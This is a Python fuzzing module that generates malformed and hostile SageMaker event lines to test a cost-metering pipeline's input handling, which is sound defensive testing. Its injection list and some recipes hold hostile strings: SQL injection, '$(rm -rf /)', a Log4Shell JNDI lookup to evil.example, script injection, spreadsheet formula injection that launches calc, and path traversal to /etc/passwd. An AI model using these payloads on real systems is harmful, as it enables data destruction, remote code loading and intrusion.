"""Hostile lines for the simulator's acceptance: ~200 lines of every kind of bad input, mixed into a month.

Every category the acceptance names: truncated and non-object JSON, wrong types, nulls, absurd and future
timestamps, unknown statuses and types, injection strings, control characters, 50+ tags, long legal tags,
`|`, wrong source or detail-type; and JSON nested deeper than any event. Each line describes a resource of
its own (`hostile-<category>-<n>`, tagged for the `hostile` project of the `red-team`), completed an hour
after it started, at the time of the line it is delivered after: if sagecost meters it, its records are
its own and small, and it never touches the money of the month's real projects.

A line's category is in the side list (`HostileMonth.hostile`), never in the line. The same seed always
gives the same lines at the same places.
"""

from __future__ import annotations

import json
import random
from collections.abc import Callable
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from typing import Any

from sagecost.local import events

HOSTILE_TAGS = {
    "Project": "hostile",
    "Team": "red-team",
    "CostCenter": "cc-6666",
    "Environment": "dev",
    "Owner": "mallory",
}
CATEGORIES = (
    "truncated JSON",
    "non-object JSON",
    "wrong types",
    "nulls",
    "absurd timestamps",
    "future timestamps",
    "unknown statuses",
    "unknown types",
    "injection strings",
    "control characters",
    "50+ tags",
    "long legal tags",
    "pipe in tags",
    "wrong source or detail-type",
    "deep nesting",
)
PER_CATEGORY = 14
"""15 categories of 14 lines: 210 hostile lines."""
INJECTIONS = (
    "'; DROP TABLE ledger; --",
    "$(rm -rf /)",
    "`id`",
    "{{7*7}}",
    "${jndi:ldap://evil.example/a}",
    "<script>alert(1)</script>",
    '=HYPERLINK("http://evil.example","click")',
    "../../../../etc/passwd",
    '", "Project": "fraud-detection',
    "%s%s%s%n",
    "PROJECT#fraud-detection#2026-10",
    "fraud-detection\\",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\\u0000",
)

Event = dict[str, Any]
Build = Callable[[datetime, str], str]
"""(the time of the line it follows, its resource's name) -> the line."""


@dataclass(frozen=True)
class HostileLine:
    category: str
    text: str
    resource: str
    """The name of the resource it describes: its usage records carry it, if it is metered."""
    routable: bool = True
    """False: its source or detail-type is one no rule in the template routes (EventBridge drops it)."""
    legal: bool = False
    """True: AWS itself could send it, so it must be metered, not rejected."""


@dataclass(frozen=True)
class HostileMonth:
    lines: list[str]
    hostile: dict[int, HostileLine]
    """Line number (from 1, as in rejected.jsonl) -> the hostile line there; the others are the month's."""


@dataclass(frozen=True)
class _Recipe:
    build: Build
    routable: bool = True
    legal: bool = False


def _job(at: datetime, name: str, **tags: str | None) -> Event:
    """A training job that ran one ml.m5.large for the hour before `at`: about $0.12 if it is metered."""
    labels = {key: value for key, value in {**HOSTILE_TAGS, **tags}.items() if value is not None}
    return events.training_job(
        name,
        "Completed",
        at=at,
        instance_type="ml.m5.large",
        start=at - timedelta(hours=1),
        end=at,
        tags=labels,
        billable_seconds=3600,
        time_format="iso",
    )


def _text(event: Any, *, ascii_only: bool = True) -> str:
    return json.dumps(event, ensure_ascii=ascii_only)


def _with(path: str, value: Any, **tags: str | None) -> Build:
    """The job with one field replaced: `path` is dotted from the envelope (`detail.ResourceConfig.X`)."""

    def build(at: datetime, name: str) -> str:
        event = _job(at, name, **tags)
        holder, leaf = _field(event, path)
        holder[leaf] = value(at) if callable(value) else value
        return _text(event)

    return build


def _without(path: str) -> Build:
    def build(at: datetime, name: str) -> str:
        event = _job(at, name)
        holder, leaf = _field(event, path)
        del holder[leaf]
        return _text(event)

    return build


def _field(event: Event, path: str) -> tuple[Event, str]:
    """The object holding a dotted path's last field, and that field's name."""
    *parents, leaf = path.split(".")
    holder = event
    for parent in parents:
        holder = holder[parent]
    return holder, leaf


def _tagged(tags: dict[str, Any] | list[Any] | Any, *, raw: bool = False) -> Build:
    """The job with these tags (replacing the hostile project's); `raw`: written without escaping."""

    def build(at: datetime, name: str) -> str:
        event = _job(at, name)
        event["detail"]["Tags"] = tags
        return _text(event, ascii_only=not raw)

    return build


def _named(name_of: Callable[[str], str], *, raw: bool = False) -> Callable[[datetime, str], str]:
    def build(at: datetime, name: str) -> str:
        return _text(_job(at, name_of(name)), ascii_only=not raw)

    return build


def _iso(moment: datetime) -> str:
    return moment.astimezone(UTC).isoformat().replace("+00:00", "Z")


def _truncated() -> list[_Recipe]:
    def cut(fraction: float) -> Build:
        def build(at: datetime, name: str) -> str:
            text = _text(_job(at, name))
            return text[: max(1, int(len(text) * fraction))]

        return build

    recipes = [_Recipe(cut(fraction)) for fraction in (0.02, 0.1, 0.25, 0.4, 0.5, 0.6, 0.75, 0.9, 0.99)]
    recipes.append(_Recipe(lambda at, name: _text(_job(at, name))[:-1]))  # the closing brace
    recipes.append(_Recipe(lambda at, name: _text(_job(at, name)).replace('"detail": {', '"detail": {{')))
    recipes.append(_Recipe(lambda at, name: _text(_job(at, name)).split('"Tags"')[0] + '"Tags": {"Pro'))
    recipes.append(_Recipe(lambda at, name: _text(_job(at, name)) + "}"))
    recipes.append(_Recipe(lambda at, name: _text(_job(at, name))[:-2] + '"\\u00'))
    return recipes


def _non_object() -> list[_Recipe]:
    texts: list[Build] = [
        lambda at, name: "[]",
        lambda at, name: "42",
        lambda at, name: '"a string"',
        lambda at, name: "null",
        lambda at, name: "true",
        lambda at, name: "1e999",
        lambda at, name: "-0",
        lambda at, name: f"[{_text(_job(at, name))}]",
        lambda at, name: json.dumps(_text(_job(at, name))),  # the event as a JSON string
        lambda at, name: "[[], [{}]]",
        lambda at, name: f"{_text(_job(at, name))} {_text(_job(at, name))}",  # two events on one line
        lambda at, name: "NaN",
        lambda at, name: "Infinity",
        lambda at, name: f"{_text(_job(at, name))},",
    ]
    return [_Recipe(build) for build in texts]


def _wrong_types() -> list[_Recipe]:
    return [
        _Recipe(_with("detail.ResourceConfig.InstanceCount", "two")),
        _Recipe(_with("detail.ResourceConfig.InstanceCount", -3)),
        _Recipe(_with("detail.ResourceConfig.InstanceCount", 1.5)),
        _Recipe(_with("detail.ResourceConfig.InstanceCount", [2])),
        _Recipe(_with("detail.ResourceConfig.InstanceCount", 10**9)),
        _Recipe(_with("detail.ResourceConfig", "big")),
        _Recipe(_with("detail.ResourceConfig.InstanceType", 42)),
        _Recipe(_with("detail.BillableTimeInSeconds", "lots")),
        _Recipe(_with("detail.BillableTimeInSeconds", 10**12)),
        _Recipe(_with("detail.ResourceConfig.VolumeSizeInGB", 10**12)),
        _Recipe(_with("detail.TrainingStartTime", True)),
        _Recipe(_with("detail-type", 7)),
        _Recipe(_with("detail", [{"TrainingJobName": "x"}])),
        _Recipe(_with("resources", "arn:aws:sagemaker:us-east-1:111122223333:training-job/x")),
    ]


def _nulls() -> list[_Recipe]:
    return [
        _Recipe(_with("detail", None)),
        _Recipe(_with("resources", None)),
        _Recipe(_with("time", None)),
        _Recipe(_with("source", None)),
        _Recipe(_with("detail-type", None)),
        _Recipe(_with("detail.TrainingJobName", None)),
        _Recipe(_with("detail.TrainingJobArn", None)),
        _Recipe(_with("detail.TrainingJobStatus", None)),
        _Recipe(_with("detail.ResourceConfig", None)),
        _Recipe(_with("detail.ResourceConfig.InstanceType", None)),
        _Recipe(_with("detail.ResourceConfig.InstanceCount", None)),
        _Recipe(_with("detail.TrainingStartTime", None)),
        _Recipe(_with("detail.Tags", {"Project": None, "Team": None})),
        _Recipe(_without("detail")),
    ]


def _absurd_timestamps() -> list[_Recipe]:
    return [
        _Recipe(_with("time", "9999-12-31T23:59:59Z")),
        _Recipe(_with("time", "0001-01-01T00:00:00Z")),
        _Recipe(_with("time", 0)),
        _Recipe(_with("time", -1)),
        _Recipe(_with("time", 1e20)),
        _Recipe(_with("time", "NaN")),
        _Recipe(_with("time", "2026-02-30T00:00:00Z")),
        _Recipe(_with("time", "")),
        _Recipe(_with("time", "9999-12-31T23:59:59-05:00")),
        _Recipe(_with("detail.TrainingStartTime", 0)),
        _Recipe(_with("detail.TrainingStartTime", "1970-01-01T00:00:00Z")),
        _Recipe(_with("detail.TrainingEndTime", lambda at: _iso(at - timedelta(hours=5)))),
        _Recipe(_with("detail.TrainingEndTime", "9999-12-31T23:59:59Z")),
        _Recipe(_with("detail.LastModifiedTime", 10**18)),
    ]


def _future_timestamps() -> list[_Recipe]:
    return [
        _Recipe(_with("time", "2031-06-01T00:00:00Z")),
        _Recipe(_with("time", "2099-01-01T00:00:00Z")),
        _Recipe(_with("time", 1893456000000)),  # 2030-01-01 in epoch milliseconds
        _Recipe(_with("time", lambda at: _iso(at + timedelta(days=7)))),
        _Recipe(_with("time", lambda at: _iso(at + timedelta(days=3)))),
        _Recipe(_with("time", lambda at: _iso(at + timedelta(days=40)))),
        _Recipe(_with("time", lambda at: _iso(at + timedelta(days=200)))),
        _Recipe(_with("detail.TrainingEndTime", "2030-01-01T00:00:00Z")),
        _Recipe(_with("detail.TrainingEndTime", lambda at: _iso(at + timedelta(days=10)))),
        _Recipe(_with("detail.TrainingStartTime", lambda at: _iso(at + timedelta(days=10)))),
        _Recipe(_with("detail.CreationTime", "2035-01-01T00:00:00Z")),
        _Recipe(_with("detail.LastModifiedTime", "2040-01-01T00:00:00Z")),
        _Recipe(_with("detail.TrainingEndTime", 4102444800000)),  # 2100-01-01 in epoch milliseconds
        _Recipe(_with("time", lambda at: _iso(at + timedelta(hours=30)))),
    ]


def _processing(status: str) -> Build:
    def build(at: datetime, name: str) -> str:
        event = events.processing_job(
            name,
            status,
            at=at,
            instance_type="ml.m5.large",
            start=at - timedelta(hours=1),
            end=at,
            tags=HOSTILE_TAGS,
            tag_format="map",
        )
        return _text(event)

    return build


def _endpoint(status: str, instance_type: str = "ml.m5.large") -> Build:
    def build(at: datetime, name: str) -> str:
        event = events.endpoint(
            name, status, at=at, config_name=f"{name}-config", variants=[("AllTraffic", 1)], tags=HOSTILE_TAGS
        )
        return _text(event)

    return build


def _unknown_statuses() -> list[_Recipe]:
    return [
        _Recipe(_with("detail.TrainingJobStatus", "Exploded")),
        _Recipe(_with("detail.TrainingJobStatus", "")),
        _Recipe(_with("detail.TrainingJobStatus", "COMPLETED")),
        _Recipe(_with("detail.TrainingJobStatus", "Completed ")),
        _Recipe(_with("detail.TrainingJobStatus", "completed")),
        _Recipe(_with("detail.TrainingJobStatus", "Completed\u0000")),
        _Recipe(_with("detail.TrainingJobStatus", "Stopped"), legal=True),
        _Recipe(_with("detail.TrainingJobStatus", "Failed"), legal=True),
        _Recipe(_with("detail.SecondaryStatus", "Whatever")),
        _Recipe(_processing("Done")),
        _Recipe(_processing("Completed"), legal=True),
        _Recipe(_endpoint("ON_FIRE")),
        _Recipe(_endpoint("")),
        _Recipe(_with("detail.TrainingJobStatus", 3)),
    ]


def _unknown_types() -> list[_Recipe]:
    return [
        _Recipe(_with("detail.ResourceConfig.InstanceType", "ml.z9.mega")),
        _Recipe(_with("detail.ResourceConfig.InstanceType", "")),
        _Recipe(_with("detail.ResourceConfig.InstanceType", "m5.xlarge")),
        _Recipe(_with("detail.ResourceConfig.InstanceType", "ml.m5.xlarge; rm -rf /")),
        _Recipe(_with("detail.ResourceConfig.InstanceType", "ML.M5.LARGE")),
        _Recipe(_with("detail.ResourceConfig.InstanceType", "ml.p5.48xlarge" * 20)),
        _Recipe(_with("detail-type", "SageMaker Training Job State Changed"), routable=False),
        _Recipe(_with("detail-type", "SageMaker Model Package State Change"), routable=False),
        _Recipe(_with("detail-type", "SageMaker HyperParameter Tuning Job State Change"), routable=False),
        _Recipe(_with("detail-type", "SageMaker Spaceship State Change"), routable=False),
        _Recipe(_with("detail.TrainingJobArn", "arn:aws:sagemaker:us-east-1:111122223333:spaceship/x")),
        _Recipe(_with("detail.TrainingJobArn", "not an arn")),
        _Recipe(
            _with(
                "detail.ResourceConfig.InstanceGroups", [{"InstanceType": "ml.q1.tiny", "InstanceCount": 2}]
            )
        ),
        _Recipe(_with("detail.EnableManagedSpotTraining", "sometimes")),
    ]


def _suffixed(suffix: str) -> Callable[[str], str]:
    return lambda name: f"{name}{suffix}"


def _injections() -> list[_Recipe]:
    recipes = [_Recipe(_named(_suffixed(value))) for value in INJECTIONS[:7]]
    recipes += [_Recipe(_with("detail.Tags.Project", value)) for value in INJECTIONS[7:]]
    return recipes


def _control_characters() -> list[_Recipe]:
    def raw_in_name(character: str) -> Build:
        def build(at: datetime, name: str) -> str:
            return _text(_job(at, f"{name}-NAME"), ascii_only=False).replace("-NAME", character)

        return build

    return [
        _Recipe(_named(lambda name: f"{name}\u0000nul")),
        _Recipe(_with("detail.Tags.Project", "\u001b[31mred\u001b[0m")),
        _Recipe(_with("detail.Tags.Team", "bell\u0007bell")),
        _Recipe(_with("detail.Tags.Owner", "back\b\b\bspace")),
        _Recipe(_named(lambda name: f"{name}\r\nInjected: header")),
        _Recipe(raw_in_name("\x01")),  # a raw control character: not JSON
        _Recipe(raw_in_name("\t")),  # a raw tab: not JSON either
        _Recipe(raw_in_name("\x7f")),  # DEL may stand raw in a JSON string
        _Recipe(_tagged({**HOSTILE_TAGS, "Note": "one\u2028two"}, raw=True)),  # str.splitlines cuts here
        _Recipe(_tagged({**HOSTILE_TAGS, "Note": "one\u2029two\x85three"}, raw=True)),
        _Recipe(_named(lambda name: f"{name}\ud800")),  # a lone surrogate, escaped
        _Recipe(lambda at, name: "\ufeff" + _text(_job(at, name))),  # a byte order mark before the object
        _Recipe(_tagged({**HOSTILE_TAGS, "Pro\u0000ject": "x"})),
        _Recipe(_named(lambda name: f"{name}\u200b\u202e")),  # zero width space, right-to-left override
    ]


def _many_tags() -> list[_Recipe]:
    def filler(count: int) -> dict[str, str]:
        return {**HOSTILE_TAGS, **{f"extra-{i:03}": f"value-{i}" for i in range(count - len(HOSTILE_TAGS))}}

    recipes = [_Recipe(_tagged(filler(count))) for count in (51, 55, 60, 75, 100, 200, 1000)]
    recipes.append(_Recipe(_tagged(filler(50)), legal=True))  # the most AWS allows
    recipes.append(_Recipe(_tagged([{"Key": k, "Value": v} for k, v in filler(64).items()])))
    recipes.append(
        _Recipe(_tagged([{"Key": "Project", "Value": "hostile"}, {"Key": "Project", "Value": "other"}]))
    )
    recipes.append(_Recipe(_tagged({**HOSTILE_TAGS, "project": "hostile-lower", "PROJECT": "hostile-upper"})))
    recipes.append(_Recipe(_tagged({**filler(60), "Project": "fraud-detection"})))
    recipes.append(_Recipe(_tagged({f"k{i}": "v" for i in range(5000)})))
    recipes.append(_Recipe(_tagged([{"Key": f"k{i}"} for i in range(80)])))
    return recipes


def _long_tags() -> list[_Recipe]:
    legal_key, legal_value = "k" * 128, "v" * 256
    return [
        _Recipe(_tagged({**HOSTILE_TAGS, legal_key: legal_value}), legal=True),
        _Recipe(_with("detail.Tags.Project", "hostile-" + "p" * 248), legal=True),
        _Recipe(_with("detail.Tags.Team", "t" * 256), legal=True),
        _Recipe(_with("detail.Tags.CostCenter", "c" * 256), legal=True),
        _Recipe(_with("detail.Tags.Owner", "o" * 256), legal=True),
        _Recipe(_with("detail.Tags.Project", "hostile-" + "\u00e9" * 248), legal=True),  # 2 bytes each
        _Recipe(_with("detail.Tags.Project", "hostile-" + "\u6f22" * 248), legal=True),  # 3 bytes each
        _Recipe(
            _tagged({"Project": "p" * 256, "Team": "t" * 256, "CostCenter": "c" * 256, "Environment": "dev"}),
            legal=True,
        ),
        _Recipe(_tagged({**HOSTILE_TAGS, "k" * 129: "v"})),
        _Recipe(_tagged({**HOSTILE_TAGS, "Note": "v" * 257})),
        _Recipe(_with("detail.Tags.Project", "p" * 5000)),
        _Recipe(_with("detail.Tags.Project", "p" * 300_000)),  # over the 256 KB EventBridge takes
        _Recipe(_named(lambda name: name + "-" + "n" * 63), legal=True),  # SageMaker names: 63 characters
        _Recipe(_named(lambda name: name + "-" + "n" * 2000)),
    ]


def _pipes() -> list[_Recipe]:
    return [
        _Recipe(_with("detail.Tags.Project", "fraud-detection|risk|cc-1001|dev")),
        _Recipe(_with("detail.Tags.Project", "|")),
        _Recipe(_with("detail.Tags.Project", "fraud-detection|")),
        _Recipe(_with("detail.Tags.Project", "a||b")),
        _Recipe(_with("detail.Tags.Team", "risk|growth")),
        _Recipe(_with("detail.Tags.CostCenter", "cc|1001")),
        _Recipe(_with("detail.Tags.Environment", "dev|prod")),
        _Recipe(_with("detail.Tags.Owner", "x|y")),
        _Recipe(_tagged({**HOSTILE_TAGS, "Pro|ject": "fraud-detection"})),
        _Recipe(_named(lambda name: f"{name}|ml.m5.large|instance-hour")),
        _Recipe(_with("detail.ResourceConfig.InstanceType", "ml.m5.large|fraud-detection")),
        _Recipe(_with("detail.Tags.Project", "|fraud-detection|risk|cc-1001|prod|")),
        _Recipe(_with("detail.Tags.Project", "churn|growth")),
        _Recipe(_with("detail.Tags", {"Project": "|", "Team": "|", "CostCenter": "|", "Environment": "|"})),
    ]


def _wrong_source() -> list[_Recipe]:
    unrouted = [
        _with("source", "aws.sagemakr"),
        _with("source", "custom.attacker"),
        _with("source", "AWS.SAGEMAKER"),
        _with("source", " aws.sagemaker"),
        _with("source", "aws.sagemaker\u0000"),
        _with("detail-type", "sagemaker training job state change"),
        _with("detail-type", "SageMaker Training Job State Change "),
        _with("detail-type", "SageMaker Training Job State Change\n"),
        _with("detail-type", "AWS API Call via CloudTrail"),
        _with("detail-type", "EC2 Instance State-change Notification"),
        _with("source", "aws.ec2"),
    ]
    recipes = [_Recipe(build, routable=False) for build in unrouted]
    recipes += [
        _Recipe(_with("source", "")),
        _Recipe(_with("detail-type", "")),
        _Recipe(_with("source", {"name": "aws.sagemaker"})),
    ]
    return recipes


def _deep_nesting() -> list[_Recipe]:
    def nested(depth: int, leaf: Any) -> Any:
        value = leaf
        for _ in range(depth):
            value = {"a": value}
        return value

    def deep_array(depth: int) -> Build:
        return lambda at, name: _text(_job(at, name))[:-1] + ', "Extra": ' + "[" * depth + "]" * depth + "}"

    return [
        _Recipe(_with("detail.Extra", nested(40, 1))),
        _Recipe(_with("detail.Extra", nested(200, 1))),
        _Recipe(_with("detail.Extra", nested(900, 1))),
        _Recipe(deep_array(1500)),
        _Recipe(deep_array(100_000)),
        _Recipe(_with("detail.Tags", nested(50, "hostile"))),
        _Recipe(_with("detail.Tags.Project", nested(3, "hostile"))),
        _Recipe(_with("detail.ResourceConfig", nested(35, {"InstanceType": "ml.m5.large"}))),
        _Recipe(_with("detail.ResourceConfig.InstanceGroups", [nested(40, 1)])),
        _Recipe(_with("resources", [nested(60, "arn")])),
        _Recipe(_with("detail.Extra", nested(20, 1))),
        _Recipe(_with("detail.Extra", [[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[1]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]])),
        _Recipe(_with("detail.StoppingCondition", nested(100, 1))),
        _Recipe(_with("detail.Extra", nested(33, 1))),
    ]


_RECIPES: dict[str, Callable[[], list[_Recipe]]] = {
    "truncated JSON": _truncated,
    "non-object JSON": _non_object,
    "wrong types": _wrong_types,
    "nulls": _nulls,
    "absurd timestamps": _absurd_timestamps,
    "future timestamps": _future_timestamps,
    "unknown statuses": _unknown_statuses,
    "unknown types": _unknown_types,
    "injection strings": _injections,
    "control characters": _control_characters,
    "50+ tags": _many_tags,
    "long legal tags": _long_tags,
    "pipe in tags": _pipes,
    "wrong source or detail-type": _wrong_source,
    "deep nesting": _deep_nesting,
}


def _slug(category: str) -> str:
    return "".join(c if c.isalnum() else "-" for c in category.lower()).strip("-").replace("--", "-")


def _time_of(line: str) -> datetime | None:
    try:
        raw = json.loads(line)
        return datetime.fromisoformat(str(raw["time"]).replace("Z", "+00:00"))
    except (ValueError, KeyError, TypeError):
        return None


def mix_hostile(month: list[str], seed: int = 11) -> HostileMonth:
    """The month's lines with `PER_CATEGORY` lines of each category put in at random places, each at the
    time of the readable line before it (in its place in arrival order, unless it lies about its time)."""
    rng = random.Random(seed)  # noqa: S311 - a reproducible mix, not cryptography
    recipes = [
        (category, index, recipe)
        for category in CATEGORIES
        for index, recipe in enumerate(_RECIPES[category]()[:PER_CATEGORY])
    ]
    rng.shuffle(recipes)
    positions = sorted(rng.sample(range(1, len(month)), len(recipes)))
    lines: list[str] = []
    hostile: dict[int, HostileLine] = {}
    at: datetime | None = None
    pending = iter(zip(positions, recipes, strict=True))
    upcoming = next(pending, None)
    for position, line in enumerate(month):
        at = _time_of(line) or at
        lines.append(line)
        while upcoming is not None and upcoming[0] == position + 1 and at is not None:
            _, (category, index, recipe) = upcoming
            name = f"hostile-{_slug(category)}-{index:02}"
            text = recipe.build(at, name)
            lines.append(text)
            hostile[len(lines)] = HostileLine(
                category, text, _resource_of(text, name), recipe.routable, recipe.legal
            )
            upcoming = next(pending, None)
    return HostileMonth(lines, hostile)


def _resource_of(text: str, name: str) -> str:
    """The training job's name as the line gives it (an injection recipe adds to the name it was given)."""
    try:
        detail = json.loads(text).get("detail")
    except (ValueError, RecursionError, AttributeError):
        return name
    value = (
        detail.get("TrainingJobName") or detail.get("ProcessingJobName") if isinstance(detail, dict) else None
    )
    value = value or (detail.get("EndpointName") if isinstance(detail, dict) else None)
    return value if isinstance(value, str) and value.startswith(name) else name
